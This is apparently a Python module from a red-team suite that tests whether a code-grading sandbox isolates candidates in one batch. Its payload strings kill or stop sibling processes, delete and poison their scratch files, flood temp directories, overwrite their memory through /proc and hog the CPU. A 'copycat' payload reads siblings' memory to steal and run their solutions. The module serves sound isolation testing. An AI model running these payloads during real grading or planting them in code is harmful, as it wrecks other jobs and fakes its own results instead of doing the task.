"""Sibling sabotage: a candidate that attacks the other samples of its batch.

Each saboteur runs for a few seconds while honest siblings (canonical solutions that
sleep a little at import, so that they overlap with it) are graded in the same batch;
the siblings must still score 1.0 and the copycat must not. Destructive variants only
touch processes descending from ``GRADER_PID`` (the process that grades the batch), so a
broken sandbox cannot hurt anything on the machine but this run.
"""

from __future__ import annotations

import os

from redteam.payloads import PROC_REGIONS
from redteam.probes import Family, Probe, every_nth, fenced, rotate
from redteam.tasks import Task, load_tasks

FIND_SIBLINGS = r"""
import os as _os
import time as _time

GRADER_PID = {GRADER_PID}


def _ancestry(pid):
    seen = []
    while pid > 1 and len(seen) < 64:
        try:
            with open(f"/proc/{pid}/stat") as fh:
                pid = int(fh.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            return seen
        seen.append(pid)
    return seen


def _siblings():
    me = _os.getpid()
    out = []
    for p in _os.listdir("/proc"):
        if p.isdigit() and int(p) not in (me, GRADER_PID) and GRADER_PID in _ancestry(int(p)):
            out.append(int(p))
    return out


def _scratch_dirs():
    dirs = set()
    for pid in _siblings():
        for link in ("cwd", "root"):
            try:
                dirs.add(_os.readlink(f"/proc/{pid}/{link}"))
            except OSError:
                pass
    base = _os.path.dirname(_os.getcwd())
    try:
        dirs.update(_os.path.join(base, d) for d in _os.listdir(base))
    except OSError:
        pass
    dirs.discard(_os.getcwd())
    dirs.discard("/")
    return dirs
"""

LOOP = """
_end = _time.monotonic() + 2.0
while _time.monotonic() < _end:
    _attack()
    _time.sleep(0.01)
"""

ATTACKS: list[tuple[str, str]] = [
    (
        "kill/stop sibling processes",
        """
import signal as _signal


def _attack():
    for pid in _siblings():
        if pid == _os.getppid():
            continue
        for sig in (_signal.SIGSTOP, _signal.SIGKILL):
            try:
                _os.kill(pid, sig)
            except OSError:
                pass
""",
    ),
    (
        "scratch: delete, poison modules, chmod",
        """
import shutil as _shutil

_POISON = "raise SystemExit(0)\\n"


def _attack():
    for d in _scratch_dirs():
        try:
            for name in _os.listdir(d):
                _shutil.rmtree(_os.path.join(d, name), ignore_errors=True)
        except OSError:
            pass
        for mod in ("math", "typing", "collections", "string", "re", "sitecustomize", "solution", "conftest"):
            try:
                with open(_os.path.join(d, mod + ".py"), "w") as fh:
                    fh.write(_POISON)
            except OSError:
                pass
        try:
            _os.chmod(d, 0)
        except OSError:
            pass
""",
    ),
    (
        "flood /tmp, /var/tmp, /dev/shm",
        """
_n = [0]


def _attack():
    for base in ("/tmp", "/var/tmp", "/dev/shm", _os.path.dirname(_os.getcwd())):
        for _ in range(50):
            if _n[0] > 2000:
                return
            _n[0] += 1
            try:
                with open(_os.path.join(base, f"flood-{_os.getpid()}-{_n[0]}"), "wb") as fh:
                    fh.write(b"x" * (64 << 10))
            except OSError:
                break
""",
    ),
    (
        "write into sibling memory",
        """
def _attack():
    for pid in _siblings():
        for mem, lo, hi in _regions(pid, "w", "r+b"):
            try:
                mem.seek(lo)
                mem.write(b"\\0" * min(hi - lo, 1 << 16))
            except OSError:
                pass
""",
    ),
    (
        "hog CPU with threads",
        """
import threading as _threading


def _spin():
    while True:
        pass


def _attack():
    if not _threading.active_count() > 1:
        for _ in range(30):
            try:
                _threading.Thread(target=_spin, daemon=True).start()
            except RuntimeError:
                break
""",
    ),
]

COPYCAT = r"""
import re as _re

_stolen = {}


def _attack():
    if callable(_stolen.get("{EP}")):
        return
    texts = []
    for pid in _siblings():
        for mem, lo, hi in _regions(pid):
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except OSError:
                continue
            pattern = rb"[\x09\x0a\x20-\x7e]{0,4000}def {EP}\([\x09\x0a\x20-\x7e]{0,8000}"
            texts += [m.group().decode() for m in _re.finditer(pattern, chunk)]
    for d in _scratch_dirs():
        try:
            for name in _os.listdir(d):
                with open(_os.path.join(d, name)) as fh:
                    texts.append(fh.read())
        except OSError:
            pass
    for text in texts:
        if "_stolen" in text:
            continue
        lines = text.splitlines()
        for a in range(len(lines)):
            ns = {}
            try:
                exec("\n".join(lines[a:]), ns)
            except BaseException:
                continue
            if callable(ns.get("{EP}")):
                _stolen.update(ns)
                return
"""


def _saboteur_code(task: Task, attack: str, copycat: bool) -> str:
    src = FIND_SIBLINGS.replace("{GRADER_PID}", str(os.getpid())) + PROC_REGIONS + attack + LOOP
    if copycat:
        body = f'return _stolen["{task.entry_point}"](*args) if "{task.entry_point}" in _stolen else None'
    else:
        body = "return 0"
    return task.program(src, body).replace("{EP}", task.entry_point)


def _siblings_for(task: Task, batch: str, same_task: bool) -> list[Probe]:
    tasks = load_tasks()
    picks = [task] * 4 if same_task else [tasks[(task.index + k * 37) % len(tasks)] for k in range(1, 5)]
    return [
        Probe(
            "sabotage_sibling",
            f"honest beside {batch.split(':', 2)[2]}",
            t.task_id,
            fenced("import time\n\ntime.sleep(0.3)\n\n" + t.solution),
            honest=True,
            batch=batch,
        )
        for t in picks
    ]


def sabotage_probes(task: Task) -> list[Probe]:
    if not every_nth(task, 23):
        return []
    probes = []
    for variant, attack in rotate(task, ATTACKS, per_task=1):
        batch = f"sabotage:{task.task_id}:{variant}"
        probes.append(
            Probe("sibling_sabotage", variant, task.task_id, fenced(_saboteur_code(task, attack, False)), batch=batch)
        )
        probes += _siblings_for(task, batch, same_task=False)
    return probes


def copycat_probes(task: Task) -> list[Probe]:
    if not every_nth(task, 55):
        return []
    batch = f"copycat:{task.task_id}:copy a sibling's solution"
    saboteur = Probe(
        "sibling_copycat",
        "copy a sibling's solution from memory/scratch",
        task.task_id,
        fenced(_saboteur_code(task, COPYCAT, True)),
        batch=batch,
    )
    return [saboteur, *_siblings_for(task, batch, same_task=True)]


FAMILIES = [
    Family(
        "sibling_sabotage",
        "kill/stop siblings, wreck or poison their scratch, flood tmp, write their memory, "
        "hog the CPU; honest siblings in the batch",
        sabotage_probes,
    ),
    Family("sibling_copycat", "find a same-task sibling's code in its memory or scratch and run it", copycat_probes),
]
